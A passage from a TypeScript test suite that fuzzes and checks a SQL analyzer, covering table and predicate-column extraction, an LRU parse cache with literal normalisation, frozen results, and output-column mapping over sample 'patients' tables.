    const sql = 'SELECT ' + '('.repeat(20_000) + '1' + ')'.repeat(20_000);
    expect(failureOf(sql).message).toMatch(/memory exhausted/);
  });

  it('never throws, whatever the text (full Unicode)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) =>
        checkResult(text, analyzeSql(text)),
      ),
      { numRuns: 300 },
    );
  });

  it('never throws, whatever the text (UTF-16 units, lone surrogates and NULs included)', () => {
    const unit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 100 }), (text) => checkResult(text, analyzeSql(text))),
      { numRuns: 300 },
    );
  });

  it('never throws on near-SQL token soup', () => {
    const token = fc.constantFrom(
      'SELECT',
      'FROM',
      'WHERE',
      'WITH',
      'RECURSIVE',
      'AS',
      'INSERT',
      'INTO',
      'UPDATE',
      'SET',
      'DELETE',
      'COPY',
      'EXPLAIN',
      'MERGE',
      'USING',
      'ON',
      'CONFLICT',
      'DO',
      'UNION',
      'VALUES',
      '(',
      ')',
      ',',
      ';',
      '*',
      '=',
      "'x'",
      '$$',
      '$a$',
      '--',
      '/*',
      '*/',
      '"Q"',
      'U&"\\0061"',
      't',
      'u',
      'f(',
      '1',
      "E'\\\\'",
      'é',
      '😀',
      '\n',
    );
    fc.assert(
      fc.property(fc.array(token, { maxLength: 30 }), (tokens) => {
        const text = tokens.join(' ');
        checkResult(text, analyzeSql(text));
      }),
      { numRuns: 500 },
    );
  });
});

function checkResult(text: string, result: ParseResult): void {
  if (result.ok) {
    for (const f of result.statements) {
      expect(typeof f.kind).toBe('string');
      expect(f.kinds[0]).toBe(f.kind);
    }
  } else {
    expect(typeof result.error.message).toBe('string');
    expect(result.error.message.length).toBeGreaterThan(0);
    expect(Number.isInteger(result.error.position)).toBe(true);
    expect(result.error.position).toBeGreaterThanOrEqual(0);
    expect(result.error.position).toBeLessThanOrEqual([...text].length + 1);
  }
}

describe('analyzeSql: relations of random queries', () => {
  // A small grammar: SELECT lists over tables from a fixed set, optional WHERE, optional WITH, UNION.
  const TABLES = [
    { sql: 'patients', name: 'patients', schema: null },
    { sql: 'visits', name: 'visits', schema: null },
    { sql: 'labs', name: 'labs', schema: null },
    { sql: 'public.patients', name: 'patients', schema: 'public' },
    { sql: '"Billing"', name: 'Billing', schema: null },
  ] as const;
  const CTE_NAMES = ['patients', 'recent', 'labs'] as const;
  type Table = (typeof TABLES)[number];

  interface Select {
    columns: string[];
    from: (Table | { cte: string })[];
    where: boolean;
  }
  interface Query {
    ctes: { name: string; body: Select }[];
    branches: Select[];
  }

  const column = fc.constantFrom('id', 'name', 'ssn', '*');
  const fromItem = (cteNames: readonly string[]) =>
    cteNames.length === 0
      ? fc.constantFrom(...TABLES)
      : fc.oneof(
          fc.constantFrom(...TABLES),
          fc.constantFrom(...cteNames).map((cte) => ({ cte })),
        );
  const select = (cteNames: readonly string[]) =>
    fc.record({
      columns: fc.array(column, { minLength: 1, maxLength: 3 }),
      from: fc.array(fromItem(cteNames), { minLength: 1, maxLength: 3 }),
      where: fc.boolean(),
    });
  const query: fc.Arbitrary<Query> = fc
    .uniqueArray(fc.constantFrom(...CTE_NAMES), { maxLength: 3 })
    .chain((names) =>
      fc.record({
        ctes: fc.tuple(...names.map((name, i) => select(names.slice(0, i)).map((body) => ({ name, body })))),
        branches: fc.array(select(names), { minLength: 1, maxLength: 3 }),
      }),
    );

  function render(s: Select): string {
    const from = s.from.map((f) => ('cte' in f ? f.cte : f.sql)).join(', ');
    return `SELECT ${s.columns.join(', ')} FROM ${from}${s.where ? ' WHERE id > 0' : ''}`;
  }

  function renderQuery(q: Query): string {
    const withPart =
      q.ctes.length === 0 ? '' : `WITH ${q.ctes.map((c) => `${c.name} AS (${render(c.body)})`).join(', ')} `;
    return withPart + q.branches.map(render).join(' UNION ');
  }

  /** What PostgreSQL resolves to a table: every table reference, unless an unqualified name is a CTE in scope. */
  function expectedRelations(q: Query): string[] {
    const names = new Set<string>();
    const add = (s: Select, visible: readonly string[]) => {
      for (const f of s.from) {
        const name = 'cte' in f ? f.cte : f.name;
        const schema = 'cte' in f ? null : f.schema;
        if (schema === null && visible.includes(name)) continue;
        names.add(`${schema === null ? '' : schema + '.'}${name}`);
      }
    };
    q.ctes.forEach((c, i) =>
      add(
        c.body,
        q.ctes.slice(0, i).map((x) => x.name),
      ),
    );
    for (const b of q.branches)
      add(
        b,
        q.ctes.map((x) => x.name),
      );
    return [...names].sort();
  }

  it('reports every table used, except names a CTE in scope shadows', () => {
    fc.assert(
      fc.property(query, (q) => {
        const sql = renderQuery(q);
        const f = only(sql);
        expect(f.kind).toBe('select');
        const got = [
          ...new Set(f.relations.map((r) => `${r.schema === null ? '' : r.schema + '.'}${r.name}`)),
        ];
        expect(got.sort()).toEqual(expectedRelations(q));
        expect(f.relations.every((r) => !r.target)).toBe(true);
      }),
      { numRuns: 300 },
    );
  });
});

describe('analyzeSql: predicate columns of random queries', () => {
  // SELECT <columns> FROM patients p [WHERE <col> = 1] [ORDER BY <col>]: exactly the WHERE and ORDER BY columns are
  // predicates. The select list is unqualified, so an unqualified ORDER BY name resolves to the same column.
  const COLUMNS = ['id', 'name', 'ssn', 'dob', 'Zip Code'] as const;
  const ident = (c: string) => (/^[a-z]+$/.test(c) ? c : `"${c}"`);
  const reference = fc.record({ qualified: fc.boolean(), name: fc.constantFrom(...COLUMNS) });
  const query = fc.record({
    select: fc.array(fc.constantFrom(...COLUMNS), { minLength: 1, maxLength: 4 }),
    where: fc.option(reference, { nil: undefined }),
    orderBy: fc.option(reference, { nil: undefined }),
  });

  it('are exactly the columns placed in WHERE and ORDER BY', () => {
    fc.assert(
      fc.property(query, (q) => {
        const written = (r: { qualified: boolean; name: string }) =>
          `${r.qualified ? 'p.' : ''}${ident(r.name)}`;
        const seen = (r: { qualified: boolean; name: string }) => `${r.qualified ? 'p.' : ''}${r.name}`;
        let sql = `SELECT ${q.select.map(ident).join(', ')} FROM patients p`;
        if (q.where) sql += ` WHERE ${written(q.where)} = 1`;
        if (q.orderBy) sql += ` ORDER BY ${written(q.orderBy)}`;
        const expected = new Set<string>();
        if (q.where) expected.add(seen(q.where));
        if (q.orderBy) expected.add(seen(q.orderBy));
        const f = only(sql);
        expect(predicatesOf(f)).toEqual([...expected].sort());
        expect(columnsOf(f)).toEqual([...new Set([...q.select, ...expected])].sort());
      }),
      { numRuns: 300 },
    );
  });
});

describe('SqlParseCache', () => {
  it('counts hits and misses and returns the same result for the same text', () => {
    const cache = new SqlParseCache(16);
    const first = cache.analyze('SELECT * FROM patients');
    const second = cache.analyze('SELECT * FROM patients');
    expect(second).toBe(first);
    expect(cache.analyze('SELECT * FROM visits')).not.toBe(first);
    expect({ hits: cache.hits, misses: cache.misses, size: cache.size }).toEqual({
      hits: 1,
      misses: 2,
      size: 2,
    });
  });

  it('evicts the least recently used text and stays within capacity', () => {
    const cache = new SqlParseCache(3);
    cache.analyze('SELECT a');
    cache.analyze('SELECT b');
    cache.analyze('SELECT c');
    cache.analyze('SELECT a'); // now most recent: SELECT b is the oldest
    cache.analyze('SELECT d');
    expect(cache.size).toBe(3);
    const misses = cache.misses;
    cache.analyze('SELECT a');
    cache.analyze('SELECT c');
    cache.analyze('SELECT d');
    expect(cache.misses).toBe(misses);
    cache.analyze('SELECT b');
    expect(cache.misses).toBe(misses + 1);
    for (let i = 0; i < 50; i++) cache.analyze(`SELECT c${i} FROM t`);
    expect(cache.size).toBe(3);
  });

  it('shares the facts of texts that differ only in numeric literals, never of SETs', () => {
    const cache = new SqlParseCache(8);
    const first = cache.analyze('SELECT abalance FROM pgbench_accounts WHERE aid = 48213');
    expect(cache.analyze('SELECT abalance FROM pgbench_accounts WHERE aid = 7')).toBe(first);
    expect(cache.analyze('SELECT abalance FROM pgbench_accounts WHERE aid = 7.5')).toBe(first);
    expect(cache.hits).toBe(2);
    // a digit inside a name is not a literal
    expect(cache.analyze('SELECT abalance FROM pgbench_accounts2 WHERE aid = 7')).not.toBe(first);
    const on = cache.analyze('SET standard_conforming_strings = 1');
    const off = cache.analyze('SET standard_conforming_strings = 0');
    expect(off).not.toBe(on);
    expect(off.ok && off.statements[0].setting?.value).toBe('0');
  });

  it('caches failures too', () => {
    const cache = new SqlParseCache(4);
    const first = cache.analyze('DEL/**/ETE FROM t');
    expect(first.ok).toBe(false);
    expect(cache.analyze('DEL/**/ETE FROM t')).toBe(first);
    expect(cache.hits).toBe(1);
  });

  it('analyses but does not keep texts over 64 KiB', () => {
    const cache = new SqlParseCache(4);
    const big = `SELECT '${'x'.repeat(MAX_CACHED_TEXT_BYTES)}' FROM patients`;
    expect(cache.analyze(big).ok).toBe(true);
    expect(cache.size).toBe(0);
    // Measured in UTF-8 bytes: 30,000 'é' are 60,000 bytes (kept), 33,000 are 66,000 (not kept).
    cache.analyze(`SELECT '${'é'.repeat(30_000)}'`);
    expect(cache.size).toBe(1);
    cache.analyze(`SELECT '${'é'.repeat(33_000)}'`);
    expect(cache.size).toBe(1);
    expect(cache.misses).toBe(3);
  });

  it('does not keep a transient failure', async () => {
    const cache = new SqlParseCache(4);
    const tooDeep = 'SELECT 1' + ' + 1'.repeat(150_000);
    // Too deep is a property of the text: kept. Two in a row (distinct texts) leave no parser instance for a moment.
    cache.analyze(tooDeep);
    cache.analyze(tooDeep + ' + 2');
    expect(cache.size).toBe(0); // over 64 KiB: not kept either way
    const transient = cache.analyze('SELECT 42');
    expect(isTransientFailure(transient)).toBe(true);
    expect(cache.size).toBe(0);
    await loadSqlParser();
    expect(cache.analyze('SELECT 42').ok).toBe(true);
    expect(cache.size).toBe(1);
  });

  it('rejects a capacity that is not a non-negative integer, and caches nothing at capacity 0', () => {
    expect(() => new SqlParseCache(-1)).toThrow(RangeError);
    expect(() => new SqlParseCache(1.5)).toThrow(RangeError);
    const none = new SqlParseCache(0);
    none.analyze('SELECT 1');
    none.analyze('SELECT 1');
    expect({ size: none.size, hits: none.hits, misses: none.misses }).toEqual({
      size: 0,
      hits: 0,
      misses: 2,
    });
  });
});

describe('analyzeSql results', () => {
  it('are frozen, so a cached result cannot be altered by one caller for the next', () => {
    const f = only('SELECT p.ssn FROM patients p');
    expect(Object.isFrozen(f)).toBe(true);
    expect(Object.isFrozen(f.relations)).toBe(true);
    expect(Object.isFrozen(f.columns[0].qualifier)).toBe(true);
    expect(Object.isFrozen(f.guard)).toBe(true);
    const g = only('SELECT 1 FROM patients p WHERE p.ssn = $1');
    expect(Object.isFrozen(g.predicateColumns)).toBe(true);
    expect(Object.isFrozen(g.predicateColumns[0])).toBe(true);
    expect(Object.isFrozen(g.predicateColumns[0].qualifier)).toBe(true);
  });
});

describe('analyzeSql before loading', () => {
  it('throws a clear error when loadSqlParser() has not completed', async () => {
    vi.resetModules();
    const fresh = await import('../../src/policy/sql-analyze.js');
    expect(fresh.analyzeSql).not.toBe(analyzeSql);
    expect(() => fresh.analyzeSql('SELECT 1')).toThrow(/await loadSqlParser\(\)/);
  });
});

describe('output columns (what a view defined by the statement shows)', () => {
  const outputsOf = (sql: string) =>
    only(sql).outputs?.map((o) => ({
      refs: o.refs.map((r) => [...r.qualifier, r.name].join('.')),
      direct: o.direct,
    }));

  it('gives each select-list entry its column references, direct when it is one column as it is', () => {
    expect(outputsOf('select p.id, lower(p.ssn) as s, 1 from patients p')).toEqual([
      { refs: ['p.id'], direct: true },
      { refs: ['p.ssn'], direct: false },
      { refs: [], direct: false },
    ]);
  });

  it('joins the branches of a set operation position by position', () => {
    expect(
      outputsOf(
        "select p.id, p.ssn, 'a' from patients p union all select a.id + 1000, a.ssn, 'b' from archive a " +
          'union all select q.id, q.ssn, q.src from patients q',
      ),
    ).toEqual([
      { refs: ['p.id', 'a.id', 'q.id'], direct: false },
      { refs: ['p.ssn', 'a.ssn', 'q.ssn'], direct: true },
      { refs: ['q.src'], direct: false },
    ]);
    // The same column in every branch is one reference.
    expect(outputsOf('select ssn from patients union all select ssn from patients')).toEqual([
      { refs: ['ssn'], direct: true },
    ]);
  });

  it('is null when the branches are not known column by column, or for other statements', () => {
    expect(outputsOf('select * from patients union all select * from archive')).toBeUndefined();
    expect(outputsOf('select 1, 2 union all select 3')).toBeUndefined();
    expect(only('insert into patients (id) values (1)').outputs).toBeNull();
  });
});
